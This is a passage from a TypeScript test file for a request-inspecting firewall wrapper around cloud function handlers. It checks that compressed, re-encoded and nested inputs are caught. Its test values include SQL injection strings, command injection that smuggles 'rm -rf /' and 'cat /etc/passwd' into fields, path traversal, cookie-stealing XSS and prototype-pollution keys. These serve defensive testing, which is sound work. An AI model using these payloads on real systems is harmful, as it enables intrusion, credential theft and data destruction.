  functions.http(uniqueName('typed-http'), protect((req, res) => void res.json({ body: req.body as unknown, raw: req.rawBody?.length })));
  functions.cloudEvent<{ message: { data: string } }>(uniqueName('typed-ce'), protect(async (ce: functions.CloudEvent<{ message: { data: string } }>) => void ce.data?.message.data));
  t.pass();
});

t.test('HTTP: a gzip or deflate body is inflated by the framework, and inspected as the handler reads it', async (t) => {
  const { gzipSync, deflateSync } = await import('node:zlib');
  const { url, seen, lines } = await bodyRecorder(t, 'http-gzip', true);
  const post = (body: Buffer, coding: string, type = 'application/json') =>
    fetch(`${url}/orders`, { method: 'POST', headers: { 'content-type': type, 'content-encoding': coding }, body });
  const attack = Buffer.from(JSON.stringify({ customer: { name: "x' OR '1'='1" } }));
  for (const [coding, bytes] of [['gzip', gzipSync(attack)], ['deflate', deflateSync(attack)]] as const) {
    t.equal((await post(bytes, coding)).status, 403, coding);
    t.equal(lines.at(-1)?.where, 'body.customer.name');
  }
  t.equal((await post(gzipSync(Buffer.from('cmd=a.txt%20%26%26%20rm%20-rf%20%2F')), 'gzip', 'application/x-www-form-urlencoded')).status, 403, 'gzip form');
  t.equal(seen(), undefined, 'the handler never ran');
  t.equal((await post(gzipSync(Buffer.from('{"sku":"TSHIRT-42","qty":2}')), 'gzip')).status, 200);
  t.same(seen(), { sku: 'TSHIRT-42', qty: 2 }, 'the handler reads the inflated document');
});

t.test('HTTP: JSON in UTF-7, UTF-16 or UTF-32, which the framework decodes by its charset, is inspected as decoded', async (t) => {
  const { url, seen } = await bodyRecorder(t, 'http-charset');
  const post = (body: Buffer | string, charset: string) =>
    fetch(`${url}/orders`, { method: 'POST', headers: { 'content-type': `application/json; charset=${charset}` }, body });
  const attack = JSON.stringify({ q: "x' UNION SELECT password FROM users--" });
  const u32 = (s: string) => Buffer.concat([...s].map((c) => { const b = Buffer.alloc(4); b.writeUInt32LE(c.codePointAt(0)!); return b; }));
  t.equal((await post('{"q":"x+ACc- UNION SELECT password FROM users--"}', 'utf-7')).status, 403, 'UTF-7');
  t.equal((await post(Buffer.from(attack, 'utf16le'), 'utf-16le')).status, 403, 'UTF-16LE');
  t.equal((await post(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(attack, 'utf16le')]), 'utf-16')).status, 403, 'UTF-16 with a BOM');
  t.equal((await post(u32(attack), 'utf-32le')).status, 403, 'UTF-32LE');
  t.equal(seen(), undefined, 'the handler never ran');
  t.equal((await post('{"q":"O+ACc-Brien +- Sons"}', 'utf-7')).status, 200);
  t.same(seen(), { q: "O'Brien + Sons" }, 'what the handler reads, the engine read');
  t.equal((await post(Buffer.from('{"q":"Zoë 日本"}', 'utf16le'), 'utf-16le')).status, 200);
  t.same(seen(), { q: 'Zoë 日本' });
});

t.test('HTTP: a JSON body the framework parsed is inspected as req.body, not parsed again', async (t) => {
  // Which value normalizeHttp hands the engine: the framework's parse only where it is exactly the
  // parse of the raw bytes as UTF-8 (see parsedJsonBody).
  const parsed = { items: [{ sku: 'A1' }] };
  const raw = Buffer.from(JSON.stringify(parsed));
  const reqOf = (headers: Record<string, string>, body: unknown = parsed) =>
    ({ method: 'POST', path: '/orders', headers, query: {}, body, rawBody: raw }) as unknown as Parameters<typeof normalizeHttp>[0];
  const bodyOf = (headers: Record<string, string>, body?: unknown) => normalizeHttp(reqOf(headers, body)).sources.find((s) => s.kind === 'body');
  t.equal(bodyOf({ 'content-type': 'application/json' })?.value, parsed, 'application/json: the parsed object itself');
  t.equal(bodyOf({ 'content-type': 'Application/JSON; charset=utf-8' })?.value, parsed, 'UTF-8 declared');
  t.equal(bodyOf({ 'content-type': 'application/cloudevents+json' })?.value, parsed, 'a structured CloudEvent posted to an HTTP function');
  t.equal(bodyOf({ 'content-type': 'application/json; charset=utf-16le' })?.value, raw, 'another charset: the bytes (read both ways)');
  t.equal(bodyOf({ 'content-type': 'application/json', 'content-encoding': 'gzip' })?.value, raw, 'compressed: the bytes');
  t.equal(bodyOf({ 'content-type': 'application/vnd.api+json' })?.value, raw, 'a type the framework leaves raw');
  t.equal(bodyOf({ 'content-type': 'application/json' }, raw)?.value, raw, 'a Buffer body: the bytes');
  t.equal(bodyOf({})?.value, raw, 'no content type: the bytes');
  // Marked as JSON.parse output (the walk skips its cycle checks) only where it is that.
  t.equal(bodyOf({ 'content-type': 'application/json' })?.parsed, true, 'the parsed object is marked parsed');
  t.equal(bodyOf({ 'content-type': 'application/json' }, raw)?.parsed, undefined, 'the bytes are not');
  t.equal(bodyOf({ 'content-type': 'application/vnd.api+json' })?.parsed, undefined);

  // Through the real server: nested values and an own `__proto__` key (JSON.parse makes one) are found
  // where they are, and the handler gets the framework's object untouched.
  const { url, seen, lines } = await bodyRecorder(t, 'http-parsed-json', true);
  const post = (body: string) => fetch(`${url}/orders`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
  t.equal((await post('{"items":[{"sku":"A1"},{"sku":"B2","note":"a.txt; cat /etc/passwd"}]}')).status, 403);
  t.equal(lines.at(-1)?.where, 'body.items[1].note');
  t.equal((await post('{"__proto__":{"isAdmin":true},"sku":"A1"}')).status, 403, 'prototype pollution key');
  t.equal(seen(), undefined, 'the handler never ran');
  t.equal((await post('{"items":[{"sku":"A1","note":"Leave it with O\'Brien; ring twice"}]}')).status, 200);
  t.same(seen(), { items: [{ sku: 'A1', note: "Leave it with O'Brien; ring twice" }] }, 'the handler reads the document unchanged');
});

t.test('a repeated query key is also read comma-joined, as `${req.query.q}` reads it', async (t) => {
  const e = createEngine();
  const reqOf = (query: unknown) => ({ method: 'GET', path: '/search', headers: {}, query }) as unknown as Parameters<typeof normalizeHttp>[0];
  const split = e.inspect(normalizeHttp(reqOf({ q: ["1' or '1'='1' union select password", ' 2 from users--'] })));
  t.equal(split.action, 'block');
  t.ok(split.findings.some((f) => f.path === 'query.q["#joined"]'), split.findings.map((f) => f.path).join(' '));
  const nested = e.inspect(normalizeHttp(reqOf({ filter: { name: ["x' union select 1", '2 from users--'] } })));
  t.ok(nested.findings.some((f) => f.path === 'query.filter.name["#joined"]'));
  const honest = normalizeHttp(reqOf({ tag: ['red', 'blue', 'green'], page: '2', ids: ['1', '2'] }));
  t.equal(e.inspect(honest).action, 'allow');
  t.ok(
    e.inspect(normalizeHttp(reqOf({ tag: ["red' union select password", ' 1 from users--'] }))).findings.some((f) => f.path === 'query.tag["#joined"]'),
    'a top-level reading keeps its path',
  );
  // OAuth loopback redirects (RFC 8252) are exempt from SSRF by name, joined or not; other classes still read them.
  const loopback = ['http://127.0.0.1:53682/', 'http://localhost:8080/callback'];
  t.equal(e.inspect(normalizeHttp(reqOf({ redirect_uri: loopback }))).action, 'allow', 'repeated redirect_uri');
  t.equal(e.inspect(normalizeHttp(reqOf({ callback: loopback }))).action, 'block', 'the same values under another name are SSRF');
  const xss = e.inspect(normalizeHttp(reqOf({ redirect_uri: ['javascript:alert(document.', 'cookie)'] })));
  t.ok(xss.findings.some((f) => f.path === 'query.redirect_uri["#joined"]' && f.class === 'xss'), xss.findings.map((f) => `${f.class} ${f.path}`).join(' '));
  const single = normalizeHttp(reqOf({ q: ['only'], n: [1, 2] }));
  t.notOk(single.sources.some((s) => s.path.includes('#joined')), 'one value, or values not all strings: nothing added');
});

t.test('the wrapper passes the arguments as given: as many, the same values (a callback forwarded), the same this', async (t) => {
  const seen: Array<{ self: unknown; args: unknown[] }> = [];
  const record = function (this: unknown, ...args: unknown[]) {
    seen.push({ self: this, args });
  };
  const ev = { specversion: '1.0', id: 'e1', source: '//x', type: 'custom.type', data: { a: 1 } };
  const self = { tag: 'self' };
  const calls: Array<{ self: unknown; args: unknown[] }> = [];
  const cb = function (this: unknown, ...a: unknown[]): string {
    calls.push({ self: this, args: a });
    return 'cb-result';
  };
  for (const arity of [1, 2, 3]) {
    const params = ['a', 'b', 'c'].slice(0, arity);
    const user = new Function('record', `return function (${params.join(',')}) { return record.apply(this, arguments); }`)(record) as (...a: unknown[]) => unknown;
    const wrapped = protect(user as Any, { log: false }) as unknown as (...a: unknown[]) => unknown;
    t.equal(wrapped.length, arity);
    for (let width = 1; width <= 4; width++) {
      const args: unknown[] = [ev, cb, { eventId: 'x' }, 'extra'].slice(0, width);
      if (width === 2 && arity === 1) args[1] = undefined; // an explicit undefined is still an argument
      seen.length = 0;
      await wrapped.apply(self, args);
      t.equal(seen.length, 1, `arity ${arity}, ${width} argument(s): the handler ran`);
      t.equal(seen[0]?.self, self, 'same this');
      t.equal(seen[0]?.args.length, width, `arity ${arity}: ${width} argument(s), not ${arity}`);
      seen[0]?.args.forEach((a, i) => {
        // A callback-style handler (more parameters than the event: the framework passes it a
        // callback) gets a forwarder, so its duration runs until it calls back (DoW accounting).
        if (i === 1 && arity > 1 && a !== cb) {
          t.type(a, 'function', `argument 1, the callback of a ${arity}-parameter handler: a forwarder`);
          calls.length = 0;
          const that = { tag: 'caller' };
          const out = (a as (...x: unknown[]) => unknown).call(that, null, 'r', 3);
          t.equal(out, 'cb-result', 'the framework callback’s result');
          t.same(calls.map((c) => c.args), [[null, 'r', 3]], 'the framework callback called once with the same arguments');
          t.equal(calls[0]?.self, that, 'and the same this');
          return;
        }
        t.equal(a, args[i], `argument ${i} is the one given`);
      });
      if (arity > 1 && width >= 2) t.not(seen[0]?.args[1], cb, `arity ${arity}, ${width} arguments: the callback is forwarded, not passed`);
    }
  }
});

t.test('HTTP: headers kept in order (undefined values skipped) and the client IP from the last x-forwarded-for hop', async (t) => {
  const req = (xff: string | string[] | undefined, extra: Record<string, unknown> = {}): Any => ({
    method: 'GET',
    path: '/x',
    query: {},
    headers: { b: '2', 'x-forwarded-for': xff, a: '1', 'x-empty': undefined, cookie: 'k=v', traceparent: 't', ...extra },
    socket: { remoteAddress: '10.9.8.7' },
  });
  const r = normalizeHttp(req('198.51.100.1, 203.0.113.9'));
  const headers = r.sources.find((s) => s.kind === 'header')!.value as Record<string, unknown>;
  t.same(Object.keys(headers), ['b', 'x-forwarded-for', 'a'], 'same order, no undefined, no cookie, no platform header');
  t.equal(r.ip, '203.0.113.9');
  const ip = (xff: string | string[] | undefined): string | undefined => normalizeHttp(req(xff)).ip;
  t.equal(ip('203.0.113.9'), '203.0.113.9', 'one hop');
  t.equal(ip(' 203.0.113.9 '), '203.0.113.9', 'trimmed');
  t.equal(ip('198.51.100.1,203.0.113.9 ,'), '10.9.8.7', 'an empty last hop: the socket peer');
  t.equal(ip('198.51.100.1, , 203.0.113.9'), '203.0.113.9');
  t.equal(ip(['198.51.100.1, 198.51.100.2', '192.0.2.1, 203.0.113.9']), '203.0.113.9', 'the last of the repeated headers');
  t.equal(ip(undefined), '10.9.8.7', 'no header: the socket peer');
});

t.test('HTTP: the headers are own properties only (an inherited enumerable name is no header), read once per invocation', async (t) => {
  // normalizeHttp walks the header object with for-in: inherited enumerable names (a polluted or
  // hand-built prototype) must stay out, as Object.keys left them out.
  const proto = { 'x-inherited': "1' or '1'='1" };
  const headers = Object.assign(Object.create(proto) as Record<string, string>, { b: '2', a: '1', '10': 'n' });
  const r = normalizeHttp({ method: 'GET', path: '/x', query: {}, headers } as Any);
  const got = r.sources.find((s) => s.kind === 'header')!.value as Record<string, unknown>;
  t.same(Object.keys(got), ['10', 'b', 'a'], 'own names in property order, the inherited one left out');
  // The wrapper reads `req.headers` (an accessor on Node's IncomingMessage) once per HTTP
  // invocation, for the route, the execution id and the normalization: it read it three times.
  let reads = 0;
  const own = { 'content-type': 'application/json', 'function-execution-id': 'exec-7', accept: '*/*' };
  const req = Object.create(
    Object.defineProperty({}, 'headers', {
      get() {
        reads++;
        return own;
      },
    }),
  ) as Any;
  Object.assign(req, { method: 'GET', path: '/orders', query: { page: '2' } });
  const { lines, log } = logs();
  let status = 0;
  const res: Any = { status: (c: number) => ((status = c), res), set: () => res, send: () => res, headersSent: false };
  let ran = 0;
  const wrapped = protect((_q: Any, _s: Any) => void ran++, { log });
  await wrapped(req, res);
  t.equal(ran, 1, 'the handler ran');
  t.equal(reads, 1, 'req.headers read once');
  own.accept = "<script>alert(1)</script>";
  await wrapped(req, res);
  t.equal(ran, 1, 'blocked');
  t.equal(status, 403);
  t.equal(lines[0]?.requestId, 'exec-7', 'the execution id from the headers read once');
});

t.test('CloudEvent and async HTTP outcomes: always a promise for events, the handler\'s value or its own error unchanged', async (t) => {
  // The event path hands the outcome to the guard's four-argument form (no `new Promise` and `then`
  // chain around it); what callers observe must not change: a promise whatever the handler returns,
  // a synchronous throw still a rejection, the callback still called for a dropped event.
  const ce = { specversion: '1.0', id: 'e-1', source: '//pubsub.googleapis.com/projects/p/topics/t', type: 'example.v1.note', data: { note: 'fine' } };
  const bad = { ...ce, data: { note: '<script>alert(1)</script>' } };
  const opts = { log: () => undefined };
  const boom = new Error('boom');
  const call = (w: unknown, ...a: unknown[]): unknown => (w as (...x: unknown[]) => unknown)(...a);

  const syncValue = call(protect((() => 7) as unknown as functions.CloudEventFunction, opts), ce);
  t.ok(syncValue instanceof Promise, 'a synchronous handler: still a promise');
  t.equal(await syncValue, 7);
  t.equal(await call(protect((async () => 8) as unknown as functions.CloudEventFunction, opts), ce), 8);

  let threw: unknown;
  let out: unknown;
  try {
    out = call(protect((() => { throw boom; }) as unknown as functions.CloudEventFunction, opts), ce);
  } catch (err) {
    threw = err;
  }
  t.equal(threw, undefined, 'a synchronous throw is not thrown out of the wrapper');
  await t.rejects(out as Promise<unknown>, boom, '...but rejects with the same error');
  await t.rejects(call(protect((async () => { throw boom; }) as unknown as functions.CloudEventFunction, opts), ce) as Promise<unknown>, boom);

  let acked = 0;
  let ran = 0;
  const cb = protect(((_e: unknown, callback: (err: unknown) => void) => {
    ran++;
    callback(null);
  }) as unknown as functions.CloudEventFunctionWithCallback<unknown>, opts);
  t.equal(await call(cb, bad, () => acked++), undefined, 'a blocked event: dropped');
  t.equal(acked, 1, 'and acknowledged through the callback');
  t.equal(ran, 0);

  // HTTP with an async handler: its value, or its error, after the invocation's accounting.
  const req = { method: 'GET', url: '/x', path: '/x', headers: { host: 'h' }, query: {}, body: undefined, ip: '10.0.0.1', get: () => undefined };
  const res = { headersSent: false, status: () => res, set: () => res, send: () => res, setHeader: () => res, end: () => res, json: () => res };
  t.equal(await call(protect((async () => 'ok') as unknown as functions.HttpFunction, opts), req, res), 'ok');
  await t.rejects(call(protect((async () => { throw boom; }) as unknown as functions.HttpFunction, opts), req, res) as Promise<unknown>, boom);
  t.throws(() => call(protect((() => { throw boom; }) as unknown as functions.HttpFunction, opts), req, res), boom, 'a synchronous HTTP handler still throws synchronously');
  t.equal(call(protect((() => 'sync') as unknown as functions.HttpFunction, opts), req, res), 'sync', 'and answers synchronously');
});

t.test('a null-prototype req.query is walked as a fast copy with the same members and findings', (t) => {
  // Express hands over `req.query` as a null-prototype object (V8 keeps those in dictionary mode);
  // normalizeHttp copies it into a fast null-prototype record for the walk (see fastQuery). The copy
  // must hold the same own members in the same order, `__proto__` as an own entry included.
  const q = Object.create(null) as Record<string, unknown>;
  q.page = '2';
  q['__proto__'] = "x' or '1'='1";
  q.tags = ['a', 'b'];
  q.q = '<script>alert(1)</script>';
  const req = { method: 'GET', headers: { host: 'fn.example.com' }, path: '/p', url: '/p?page=2', originalUrl: '/p?page=2', query: q } as Any;
  const src = normalizeHttp(req).sources.find((s) => s.kind === 'query' && s.path === 'query')!;
  const copy = src.value as Record<string, unknown>;
  t.not(copy, q, 'a copy, not the dictionary-mode object');
  t.notOk('constructor' in copy, 'inherits nothing');
  t.same(Object.keys(copy), ['page', '__proto__', 'tags', 'q'], 'same keys, same order');
  t.ok(Object.prototype.hasOwnProperty.call(copy, '__proto__'), '__proto__ an own entry');
  t.equal(copy.tags, q.tags, 'values shared');
  const e = createEngine();
  const paths = e.inspect(normalizeHttp(req)).findings.map((f) => `${f.class} ${f.path}`);
  t.ok(paths.includes('sqli query.__proto__'), 'the value under __proto__ is read');
  t.ok(paths.includes('xss query.q'), 'the others too');
  // A plain or hand-built object with a richer prototype is handed over as it is.
  const plain = { page: '2' };
  t.equal(normalizeHttp({ ...req, query: plain }).sources.find((s) => s.kind === 'query')!.value, plain);
  t.end();
});

t.test("req.query's copies stop at the engine's string limit; the walk then reports limits.strings", (t) => {
  // A query parser with no pair cap can hand over more keys than the engine inspects: the fast copy
  // and the joined readings of repeated keys stop at limits.maxStrings (work the attacker sized), and
  // the walk of the original still answers limits.strings (413). Under the limit nothing changes.
  const maxStrings = 40;
  const build = (n: number, nested: boolean): Record<string, unknown> => {
    const q = Object.create(null) as Record<string, unknown>;
    for (let i = 0; i < n; i++) q[`k${i}`] = i === n - 1 ? ["1' union select password", ' 1 from users--'] : nested ? { a: ['x', 'y'] } : ['x', 'y'];
    return q;
  };
  const reqOf = (query: unknown) => ({ method: 'GET', headers: { host: 'fn.example.com' }, path: '/p', url: '/p', originalUrl: '/p', query }) as Any;
  const e = createEngine({ limits: { maxStrings } });
  for (const nested of [false, true]) {
    const small = build(5, nested);
    const n = normalizeHttp(reqOf(small), undefined, maxStrings);
    t.not(n.sources[0]!.value, small, 'under the limit: copied');
    t.equal(n.sources.filter((s) => s.kind === 'query').length - 1, 5, 'every repeated key joined');
    t.ok(e.inspect(n).findings.some((f) => f.class === 'sqli'), 'and the split attack is found');
    const big = build(maxStrings + 10, nested);
    const m = normalizeHttp(reqOf(big), undefined, maxStrings);
    t.equal(m.sources[0]!.value, big, 'past the limit: the original is walked, not copied');
    t.ok(m.sources.filter((s) => s.kind === 'query').length <= maxStrings + 1, 'joined readings bounded by the limit');
    const v = e.inspect(m);
    t.ok(v.findings.some((f) => f.rule === 'limits.strings'), 'the walk reports limits.strings');
    t.equal(v.action, 'block', 'and the request is blocked');
  }
  // The default limit is the engine's default (normalizeHttp without the argument).
  t.not(normalizeHttp(reqOf(build(maxStrings + 10, false))).sources[0]!.value, undefined);
  t.end();
});

t.test("req.query's fast copy: Express 5's querystring shapes keep their members, order and findings (review rP, s23)", (t) => {
  // Express 5's default ('simple') query parser is node:querystring's parse: a null-prototype object,
  // which normalizeHttp copies (fastQuery). Integer-like keys enumerate first in ascending order, the
  // others in insertion order, in the original and the copy alike; a large or signed number, a leading
  // zero or a fraction is a plain name. The copy must walk as the original does: same members in the
  // same order, same values, same findings at the same paths.
  const members = (o: Record<string, unknown>): string => {
    const out: string[] = [];
    for (const k in o) if (Object.prototype.hasOwnProperty.call(o, k)) out.push(`${k}=${JSON.stringify(o[k])}`);
    return out.join('&');
  };
  const e = createEngine({ paranoia: 3 });
  const found = (value: unknown): string[] => e.inspect({ sources: [{ kind: 'query', path: 'query', value }] }).findings.map((f) => `${f.rule} ${f.path}`);
  let copied = 0;
  for (const p of ["1' or 1=1--", '<script>alert(1)</script>', '; cat /etc/passwd', '../../../etc/passwd']) {
    const v = encodeURIComponent(p);
    for (const search of [
      `10=a&2=${v}&x=1&1=b`,
      `4294967295=${v}&4294967294=x&9007199254740993=y&-1=z&01=w&1.5=v&0=${v}`,
      `=${v}&b=1`,
      `__proto__=${v}&constructor=${v}&hasOwnProperty=x&toString=1`,
      `a=1&a=${v}&a=3`,
      `${v}=1&z=2`,
    ]) {
      const q = querystring.parse(search) as unknown as Record<string, unknown>;
      const req = { method: 'GET', headers: { host: 'fn.example.com' }, path: '/p', url: `/p?${search}`, originalUrl: `/p?${search}`, query: q } as Any;
      const copy = normalizeHttp(req).sources.find((s) => s.kind === 'query' && s.path === 'query')!.value as Record<string, unknown>;
      if (copy !== q) copied++;
      t.equal(members(copy), members(q), `members of ${search.slice(0, 40)}`);
      t.same(found(copy), found(q), `findings of ${search.slice(0, 40)}`);
    }
  }
  t.equal(copied, 24, 'every one copied (the case the copy is for)');
  t.end();
});
